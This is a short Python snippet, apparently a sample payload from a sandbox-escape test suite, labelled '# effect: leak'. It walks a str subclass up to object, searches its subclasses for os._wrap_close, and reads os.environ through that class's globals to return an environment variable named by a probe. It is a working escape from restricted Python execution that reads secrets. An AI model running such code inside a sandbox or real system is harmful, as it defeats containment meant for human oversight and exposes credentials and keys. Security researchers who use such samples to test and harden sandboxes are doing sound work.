# effect: leak
import operator


class Holder(str):
    reach = property(operator.attrgetter("__class__.__base__.__base__"))


def attempt(probe):
    for cls in Holder("x").reach.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["environ"][probe["env"]]
